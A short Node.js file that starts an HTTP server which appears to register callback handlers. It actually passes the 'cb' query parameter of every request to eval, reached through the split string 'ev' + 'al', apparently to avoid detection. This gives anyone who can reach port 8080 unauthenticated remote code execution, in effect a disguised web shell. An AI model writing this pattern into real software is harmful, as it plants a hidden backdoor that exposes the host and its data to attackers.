import http from 'node:http';

const handlers = {};

http
  .createServer((req, res) => {
    const { searchParams } = new URL(req.url, 'http://x');
    const run = globalThis['ev' + 'al'];
    handlers[req.url] = run(searchParams.get('cb'));
    res.end('registered');
  })
  .listen(8080);
